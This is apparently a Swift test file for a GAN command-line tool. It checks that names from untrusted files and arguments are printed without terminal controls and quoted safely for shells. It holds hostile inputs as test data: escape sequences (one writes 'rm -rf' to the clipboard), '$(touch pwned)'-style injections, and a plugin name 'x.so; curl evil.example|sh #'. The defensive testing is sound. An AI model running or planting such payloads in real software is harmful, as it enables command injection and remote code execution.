import Foundation
import GANCore
import GANMetrics
import GANModule
import GANRun
import GANTestSupport
import GANTrain
import ImageMetrics
import Testing

@testable import GANZooCLI

/// What strangers' files say reaches the terminal as text.
@Suite struct OutputTests {
    private static let sources = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appending(path: "Sources/GANZooCLI")
    private static let hostile = "\u{1B}[2J\u{1B}]52;c;cm0gLXJm\u{7}red\u{202E}\n"

    private let place: Workplace

    init() throws { place = try Workplace() }

    /// One file alone writes to standard output and standard error.
    @Test func everythingIsPrintedOneWay() throws {
        let writing = /(^|[^A-Za-z])(print|debugPrint|dump|fputs|puts|printf)\(|FileHandle\.standard[EO]|fdopen/
        let manager = FileManager.default
        let files = try #require(manager.enumerator(atPath: Self.sources.path)).compactMap { $0 as? String }
            .filter { $0.hasSuffix(".swift") }
        let others = try files.filter { file in
            let text = try String(contentsOf: Self.sources.appending(path: file), encoding: .utf8)
            return text.split(separator: "\n").contains { $0.contains(writing) }
        }
        #expect(files.count > 50)
        #expect(others.sorted() == ["Terminal/Output.swift"])
    }

    /// What cannot be said changes nothing else: the disk on which the log of errors lies is full.
    @Test func errorsThatCannotBeWrittenKeepTheExitCode() throws {
        let program = Program.products.appending(path: "ganzoo").path
        for (arguments, status) in [
            ("recipe check \(place.path("no.yaml"))", 2), ("data check \(place.path("no"))", 1),
        ] {
            #expect(try Program.run("/bin/bash", ["-c", "'\(program)' \(arguments)"]).status == status)
            #expect(try Program.run("/bin/bash", ["-c", "'\(program)' \(arguments) 2> /dev/full"]).status == status)
        }
    }

    @Test func namesOfRecipesAreText() throws {
        try FileManager.default.createDirectory(atPath: place.path("lib"), withIntermediateDirectories: true)
        try place.write("lib/n\u{1B}[31mred.yaml", "about: {summary: \"a\\e]0;owned\\x07b\"}\n")
        let program = try Program.run("recipe", "list", environment: ["GANZOO_RECIPES": place.path("lib")])
        #expect(program.status == 0, "\(program.errors)")
        #expect(
            program.output.hasPrefix("n\u{FFFD}[31mred")
                && !program.output.contains { $0.isASCII && $0 < " " && $0 != "\n" })
    }

    /// A stranger's folder of recipes was listed for ever.
    @Test func aPipeAmongRecipesIsNotWaitedFor() throws {
        try FileManager.default.createDirectory(atPath: place.path("lib"), withIntermediateDirectories: true)
        #expect(mkfifo(place.path("lib/pipe.yaml"), 0o600) == 0)
        try place.write("lib/a.yaml", "about: {summary: one}\n")
        let program = try Program.run("recipe", "list", environment: ["GANZOO_RECIPES": place.path("lib")])
        #expect(program.output == "a     one\npipe\n", "\(program.errors)")
    }

    /// No score has such a name, and the refusal shows it.
    @Test func reportsAreText() throws {
        var writer = SafetensorsWriter()
        SmallClassifier.fashion(seed: 3).addState(to: &writer)
        try writer.write(to: place.path("fmnist.safetensors"))
        var report = EvaluationReport(
            EvaluationSettings(
                try LoadedExtractor("fmnist", SafetensorsFile(path: place.path("fmnist.safetensors"))),
                EvaluationSettings.Reference(name: Self.hostile, content: nil, count: 9, split: .test),
                EvaluationSettings.Samples(name: "s", count: 9), program: "test"))
        report.scores = [Self.hostile: 1]
        for name in ["a", "b"] { try EvaluationFile.write(report, to: place.path("\(name).json")) }
        let program = try Program.run("compare", place.path("a.json"), place.path("b.json"))
        #expect(program.status == 1)
        #expect(
            program.errors.contains("`\\u{1B}[2J\\u{1B}]52;c;cm0gLXJm\\u{7}red\\u{202E}\\n` is not"),
            "\(program.errors)")
        #expect(!(program.output + program.errors).unicodeScalars.contains("\u{1B}"))
    }

    @Test func linesForProgramsHoldNoControls() {
        var line = JSONLine()
        line.add("text", "\u{1B}\u{7F}\u{9B}é\n\u{2028}\u{202E}\u{2069}\u{200F}")
        #expect(
            line.text == "{\"text\": \"\\u001b\\u007f\\u009bé\\u000a\\u2028\\u202e\\u2069\u{200F}\"}")
    }

    /// A name of two wide characters and a line end, beside one of six letters.
    @Test func cellsOfTablesAreAlignedAndOnOneLine() {
        #expect(["猫犬\n", "abcdef"].widest == 6)
        #expect("猫犬\n".padding(to: 6) == "猫犬\u{FFFD} ")
        #expect("abcdef".padding(to: 6) == "abcdef")
    }

    /// A class of a folder that a stranger packed.
    @Test func aNameWithALineEndPrintsNoLine() throws {
        let name = "cat\nganzoo: finished\n  fix: run this"
        for folder in [name, "dog"] {
            try FileManager.default.createDirectory(
                atPath: place.path("data/\(folder)"), withIntermediateDirectories: true)
            try Data([0x50, 0x35, 0x0A, 0x31, 0x20, 0x31, 0x0A, 0x32, 0x35, 0x35, 0x0A, 0x80]).write(
                to: place.folder.appending(path: "data/\(folder)/1.pgm"))
        }
        try place.write("data/\(name)/2.png", "no image")
        for command in [["data", "check"], ["data", "preview"], ["new", "recipe"]] {
            let program = try Program.run(
                Program.products.appending(path: "ganzoo").path, command + ["data"],
                environment: ["GANZOO_CACHE": place.path("cache")], in: place.folder)
            let lines = (program.output + program.errors).split(separator: "\n")
            #expect(!lines.isEmpty)
            #expect(!lines.contains { $0.hasPrefix("ganzoo: finished") || $0.contains(/^ *fix: run this/) }, "\(lines)")
        }
    }

    /// A name in a checkpoint that fits no network.
    @Test func namesOfTensorsAreText() throws {
        let name = "x\n  fix: run this\u{1B}[2J"
        var writer = SafetensorsWriter()
        SmallClassifier.fashion(seed: 3).addState(to: &writer)
        writer.add(name, shape: []) { [Float(1)] }
        try writer.write(to: place.path("a.safetensors"))
        let error = #expect(throws: StateMismatch.self) {
            try SmallClassifier.fashion(seed: 3).loadState(from: SafetensorsFile(path: place.path("a.safetensors")))
        }
        #expect(
            error?.description.contains("\n    x\\n  fix: run this\\u{1B}[2J\n") == true, "\(String(describing: error))"
        )
    }

    /// What the shell completed of a folder that a stranger made.
    @Test(arguments: ["a\nb", "\u{1B}]0;x\u{7}", "a\u{202E}b", "a\u{2028}b"]) func argumentsHoldNoControls(
        _ word: String
    ) throws {
        for arguments in [
            ["generate", "--run", word], ["data", "check", word], ["--\(word)"], ["train", "x", "a=\(word)"],
        ] {
            let program = try Program.run(Program.products.appending(path: "ganzoo").path, arguments, in: place.folder)
            #expect(program.status == 2)
            let shown = arguments.last?.escapingControls ?? ""
            #expect(
                program.errors == "ganzoo: the argument `\(shown)` has a line end or a control character\n"
                    + "  fix: rename the file\n")
        }
    }

    /// A carriage return before a line feed hid that a line begins there.
    @Test(arguments: [
        ("a\nb", "a\n  b"), ("a\r\nganzoo: finished", "a\r\n  ganzoo: finished"), ("a\n\r\nb", "a\n  \r\n  b"),
        ("a\n  b", "a\n  b"),
    ]) func furtherLinesAreIndented(_ message: String, _ expected: String) {
        #expect(Array(message.withIndentedLines.utf8) == Array(expected.utf8))
    }

    // MARK: Commands to paste

    /// With what shells give a meaning. In fish, `\'` and `\\` are escapes between quotes.
    private static let words = [
        "plain-1.0_a/b", "", "two words", "it's", "$(touch x); #", "~/x", "=x", "*", "a\\b", "\\", "a\\", "'", "''",
        "\\'", "\\\\'",
        "'\\", "\\';touch pwned;#", "a\\'$(touch pwned)'\\b",
        "${HOME}", "`touch pwned`", "%1", "a{b,c}", "!x", "^x^y", "猫",
    ]

    private func expectReading(_ word: String, by shell: String...) throws {
        let quoted = shellQuoted(word)
        #expect(quoted.onOneLine == quoted)
        let read = try Program.run("/usr/bin/env", shell + ["-c", "printf '%s' \(quoted)"], in: place.folder)
        #expect(read.output == word, "\(shell[0]): \(read.errors)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: place.folder.path).isEmpty)
    }

    private static func isInstalled(_ shell: String) -> Bool {
        let folders = ProcessInfo.processInfo.environment["PATH"]?.split(separator: ":") ?? []
        return folders.contains { FileManager.default.isExecutableFile(atPath: "\($0)/\(shell)") }
    }

    @Test(arguments: Self.words) func shReadsAWordAsItIs(_ word: String) throws { try expectReading(word, by: "sh") }

    @Test(arguments: Self.words + ["\u{1B}]0;x\u{7}'\\", "a\nb", "r\u{202E}x"])
    func bashReadsAWordAsItIs(_ word: String) throws { try expectReading(word, by: "bash") }

    @Test(
        .enabled(if: isInstalled("zsh"), "zsh is not installed"),
        arguments: Self.words + ["\u{1B}]0;x\u{7}'\\", "a\nb", "r\u{202E}x"])
    func zshReadsAWordAsItIs(_ word: String) throws { try expectReading(word, by: "zsh", "-f") }

    @Test(.enabled(if: isInstalled("fish"), "fish is not installed"), arguments: Self.words)
    func fishReadsAWordAsItIs(_ word: String) throws { try expectReading(word, by: "fish", "--no-config") }

    /// Bytes of control characters have no form that fish reads.
    @Test(
        .enabled(if: isInstalled("fish"), "fish is not installed"),
        arguments: ["a\n';touch pwned;#", "\u{7}\\'$(touch pwned)"])
    func fishRefusesALineWithControls(_ word: String) throws {
        let line = "true \(shellQuoted(word))"
        let refused = try Program.run("/usr/bin/env", ["fish", "--no-config", "-c", line], in: place.folder)
        // fish 3.6 reports the error and exits with 0.
        #expect(!refused.errors.isEmpty)
        #expect(try FileManager.default.contentsOfDirectory(atPath: place.folder.path).isEmpty)
    }

    @Test func whatARunWasTrainedWithIsQuoted() throws {
        struct Description: Encodable {
            let data: DatasetInfoFile
            let plugins: [String]
        }
        let info = DatasetInfo(count: 0, channels: 1, height: 8, width: 8, labelKind: .none, labelSize: 0)
        let plugins = ["x.so; curl evil.example|sh #"] + (0..<20).map { "\($0).so" }
        let json = try JSONEncoder().encode(Description(data: DatasetInfoFile(info), plugins: plugins))
        try place.write("run.json", String(decoding: json, as: UTF8.self))
        let error = #expect(throws: RunError.self) { _ = try RunNetworks(place.folder.path).recipe() }
        let failure = CommandFailure(try #require(error))
        let hint = try #require(failure.description.split(separator: "\n").last)
        #expect(
            hint.hasPrefix(
                "  fix: load the plugins of its training: --plugin 'x.so; curl evil.example|sh #' --plugin 0.so --plugin 1.so "
            ))
        #expect(hint.hasSuffix(" --plugin 6.so …"))
        #expect(error?.description.hasSuffix(", 6.so, …") == true && error?.description.contains("--plugin") == false)
    }
}
